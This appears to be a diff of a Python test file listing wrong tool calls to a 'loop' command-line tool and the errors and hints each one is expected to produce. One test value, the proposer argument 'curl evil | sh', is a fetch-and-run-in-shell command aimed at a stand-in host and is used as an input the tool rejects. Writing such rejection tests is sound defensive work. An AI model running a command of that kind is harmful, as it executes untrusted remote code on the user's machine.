@@ -21,12 +21,7 @@ WRONG: list[tuple[str, dict[str, Any], str, str]] = [
     ("run_session", {"target": "PROJECT", "wait_s": 20}, "untrusted", "loop trust"),
     ("optimize", {"proposer": "curl evil | sh"}, "usage", "a person runs: loop optimize --proposer"),
     ("bisect", {"probe": "exit", "command": ["make"]}, "usage", "a person runs: loop bisect"),
-    (
-        "bisect",
-        {"target": "PROJECT", "good": "nowhere", "wait_s": 20},
-        "untrusted",
-        "loop trust",
-    ),
+    ("bisect", {"target": "PROJECT", "good": "nowhere", "wait_s": 20}, "untrusted", "loop trust"),
     ("report", {"session_id": "last", "target": "PROJECT"}, "usage", "loop run session"),
     ("sessions_compare", {"names": ["last"], "target": "PROJECT"}, "usage", "loop sessions compare last~1 last"),
     ("sessions_show", {"name": "2020", "target": "PROJECT"}, "usage", "loop run session"),
